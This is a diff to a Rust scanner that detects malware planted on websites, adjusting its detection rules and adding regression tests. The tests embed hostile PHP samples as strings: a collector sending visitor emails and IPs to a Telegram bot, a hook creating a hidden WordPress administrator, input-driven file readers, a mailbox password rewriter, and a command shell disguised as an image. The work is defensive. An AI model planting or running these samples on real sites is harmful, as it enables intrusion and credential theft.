@@ -384,7 +384,7 @@ pub const SNIFF: usize = 512;
 /// Perl, CGI, Python and shell programs.
 /// (`alfa`: the ALFA web shell's CGI helpers, `alfacgiapi/*.alfa`, which the shell's own
 /// `.htaccess` makes CGI scripts.)
-const PROGRAM_EXTENSIONS: &[&str] = &["pl", "cgi", "py", "rb", "sh", "bash", "alfa"];
+const PROGRAM_EXTENSIONS: &[&str] = &["pl", "cgi", "py", "sh", "bash", "alfa"];
 /// Folder names (exact, lowercase) meant for uploaded or media files, never for code.
 /// (`upload` and `media` are not: OpenCart ships its whole shop in `upload/`, Drupal and
 /// Joomla have code in `media` folders.)
@@ -908,7 +908,8 @@ pub fn judge(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<
 /// `.htaccess` they are kept to restore. Any other file not read for its content has nothing to
 /// report.
 fn disguised(rel: &str, name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
-    if (is_text_note(name) || named_as_data(name)) && program_line(text) {
+    let php_inside = || php_tag_in_head(text).is_some() || php_before_last(name);
+    if (is_text_note(name) || named_as_data(name)) && program_line(text) && !php_inside() {
         // A program kept as text or under a picture's name.
         let mut hits: Vec<Hit> = programs::signs(text)
             .into_iter()
@@ -965,8 +966,8 @@ fn settings_hits(name: &str, text: &[u8], own_domains: &[String]) -> Vec<Hit> {
 }
 
 /// Whether the first bytes of a file read only in part say it is code in disguise: for a data
-/// file (`named_as_data`), PHP's open tag or server settings; for one named as nothing, a
-/// program's `#!` line or server settings.
+/// file (`named_as_data`), PHP's open tag, a program's `#!` line or server settings; for one
+/// named as nothing, a program's `#!` line or server settings; for a `.txt`, a `#!` line only.
 pub fn worth_reading(name: &str, head: &[u8]) -> bool {
     // (A PHP ending before the data one, `x.php.jpg`: read whole, its code may come late.)
     if is_text_note(name) {
@@ -1755,10 +1756,14 @@ mod tests {
         assert!(whys("antibot.php", &shown).is_empty());
         // What a visitor typed, with the visitor's address, sent to a chat bot; an order form
         // sent there without it is a shop's.
-        let bot = "<?php $e = $_POST['eml']; $m = \"Email: $e\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nfile_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($m)); header('Location: next.php');";
+        let bot = "<?php $e = $_POST['eml']; $m = \"Email: $e\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];\nfile_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($m)); header('Location: next.php');";
         assert_eq!(whys("p4.php", bot), [Why::CredentialCollector]);
-        let order = bot.replace(" . $_SERVER['REMOTE_ADDR']", "");
-        assert!(whys("p4.php", &order).is_empty());
+        // Regression (review): a shop's lead form sends the address alone, against spam.
+        let order = bot.replace(" . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT']", "");
+        assert!(whys("p4.php", &order).is_empty(), "{order}");
+        // Regression (review): a maintenance page that lets the scanners in turns none away.
+        let admits = "SetEnvIfNoCase User-Agent \"McAfee|Netcraft|Sophos|Kaspersky\" scanner\nOrder deny,allow\nDeny from all\nAllow from env=scanner\n";
+        assert!(whys(".htaccess", admits).is_empty(), "{:?}", whys(".htaccess", admits));
     }
 
     #[test]
@@ -1766,6 +1771,12 @@ mod tests {
         // aaronjorbin's "NSA backdoor" plugin: an `init` hook makes `nsa`/`nsa` an administrator.
         let maker = "<?php function mk() { if (get_user_by('email', 'n@example.com')) return; $id = wp_create_user('nsa', 'nsa', 'n@example.com'); $u = new WP_User($id); $u->set_role('administrator'); }\nadd_action('init', 'mk');";
         assert_eq!(whys("nsa.php", maker), [Why::AdminBackdoor]);
+        // Regression (review): a theme demo's subscriber, the administrator named elsewhere.
+        let demo = maker.replace(
+            "$u->set_role('administrator'); }",
+            "$u->set_role('subscriber'); }\nfunction x() { return current_user_can('administrator'); }",
+        );
+        assert!(whys("nsa.php", &demo).is_empty(), "{:?}", whys("nsa.php", &demo));
         // Made on a plugin's activation, or with a password from the form, it is the plugin's.
         assert!(whys("nsa.php", &maker.replace("add_action('init'", "register_activation_hook(__FILE__")).is_empty());
         assert!(whys("nsa.php", &maker.replace("'nsa', 'nsa'", "$_POST['u'], $pass")).is_empty());
@@ -1779,6 +1790,10 @@ mod tests {
         assert_eq!(whys("r.php", reader), [Why::FileReadFromInput]);
         let lister = "<?php $d = $_GET['y']; if ($h = opendir($d)) { while (($f = readdir($h)) !== false) { print \"$f<br>\"; } }";
         assert_eq!(whys("y.php", lister), [Why::FileReadFromInput]);
+        // Regression (review): a download page that checks the name against its list.
+        let listed =
+            reader.replace("$f = @fopen", "if (!in_array($a, array('a.pdf', 'b.pdf'), true)) { exit; } $f = @fopen");
+        assert!(whys("r.php", &listed).is_empty(), "{:?}", whys("r.php", &listed));
         // A fixed file or folder is the script's own business.
         assert!(whys("r.php", &reader.replace("@fopen($a, 'r')", "@fopen('news.txt', 'r')")).is_empty());
     }
@@ -1789,6 +1804,9 @@ mod tests {
         // hash of the intruder's password for every mailbox.
         let reset = "<?php $u = get_current_user(); $d = $_SERVER['SERVER_NAME']; $h = crypt('pw', '$6$x$');\n$p = '/home/' . $u . '/etc/' . $d . '/shadow'; $old = file($p); unlink($p);\nforeach ($old as $l) { $b = explode(':', $l); $f = fopen($p, 'ab'); fwrite($f, $b[0] . ':' . $h . \"\\n\"); }";
         assert_eq!(whys("smtp.php", reset), [Why::RewritesMailPasswords]);
+        // Regression (review): a tool reading the system's `/etc/shadow` writes no mailbox's.
+        let system = "<?php echo file_get_contents('/etc/shadow'); $h = crypt($_POST['p'], '$6$s$'); file_put_contents('log.txt', $h);";
+        assert!(!whys("tools.php", system).contains(&Why::RewritesMailPasswords));
         // A copy of the list kept by a backup script makes no password.
         let copy = reset.replace("crypt('pw', '$6$x$')", "date('Ymd')");
         assert!(!whys("smtp.php", &copy).contains(&Why::RewritesMailPasswords));
@@ -1802,6 +1820,10 @@ mod tests {
             assert!(worth_reading(name, bot.as_bytes()));
             assert!(whys(name, bot).contains(&Why::NetworkBot), "{name}: {:?}", whys(name, bot));
         }
+        // Regression (review): a PHP shell under a picture's name with a `#!` line on top is
+        // still read as the PHP it holds.
+        let shell = "#!/bin/sh\n<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>";
+        assert!(whys("logo.jpg", shell).contains(&Why::ShellFromInput), "{:?}", whys("logo.jpg", shell));
         // Notes and pictures are not read otherwise.
         assert!(!worth_reading("readme.txt", b"=== Plugin ===\nContributors: me\n"));
         assert!(whys("readme.txt", "use IO::Socket; NICK JOIN PRIVMSG").is_empty());
